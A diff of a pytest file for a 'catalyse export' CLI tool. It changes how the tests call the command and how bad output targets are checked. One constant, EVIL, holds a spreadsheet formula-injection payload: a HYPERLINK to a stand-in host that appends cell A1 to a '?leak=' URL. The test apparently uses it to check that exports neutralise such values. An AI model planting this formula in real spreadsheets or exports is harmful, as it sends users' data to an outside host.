@@ -10,20 +10,16 @@ from pathlib import Path
 import pytest
 from openpyxl import load_workbook
 
-from workshop.cli import Parser
-from workshop.cli.commitments import HEADERS, export_commitments, register_export
-from workshop.errors import CatalyseError
+from workshop.cli import main
+from workshop.cli.commitments import HEADERS, export_commitments
 from workshop.storage.store import Store
 
 EVIL = '=HYPERLINK("http://x.example/?leak="&A1;"clic"), puis\nune ligne\\fin'
 
 
 def run_cli(args: list[str]) -> int:
-    """Run the export through its registered subcommand, as `catalyse export` does."""
-    parser = Parser(prog="catalyse export")
-    register_export(parser.add_subparsers(dest="target", parser_class=Parser))
-    parsed = parser.parse_args(args)
-    return int(parsed.func(parsed))
+    """Run `catalyse export …`."""
+    return main(["export", *args])
 
 
 @pytest.fixture
@@ -112,20 +108,11 @@ def test_ics_has_one_event_per_due_date(exported_db: Path, tmp_path: Path, demo_
     assert "\r\n " in text  # long lines were folded
 
 
-def test_bad_targets_are_refused(exported_db: Path, tmp_path: Path) -> None:
-    """An unknown extension or workshop is a clear error, and no file is written."""
-    with pytest.raises(CatalyseError, match=r"\.csv, \.xlsx or \.ics"):
-        run_cli(["commitments", "-o", str(tmp_path / "x.pdf"), "--db", str(exported_db)])
-    with pytest.raises(CatalyseError, match="no workshop with id 99"):
-        run_cli(
-            [
-                "commitments",
-                "-o",
-                str(tmp_path / "x.csv"),
-                "--db",
-                str(exported_db),
-                "--workshop",
-                "99",
-            ]
-        )
+def test_bad_targets_are_refused(exported_db: Path, tmp_path: Path, capsys) -> None:
+    """An unknown extension or workshop exits 2 with one clear line, and writes no file."""
+    assert run_cli(["commitments", "-o", str(tmp_path / "x.pdf"), "--db", str(exported_db)]) == 2
+    assert "must end in .csv, .xlsx or .ics" in capsys.readouterr().err
+    args = ["commitments", "-o", str(tmp_path / "x.csv"), "--db", str(exported_db)]
+    assert run_cli([*args, "--workshop", "99"]) == 2
+    assert capsys.readouterr().err.startswith("catalyse: error: no workshop with id 99")
     assert not list(tmp_path.glob("x.*"))
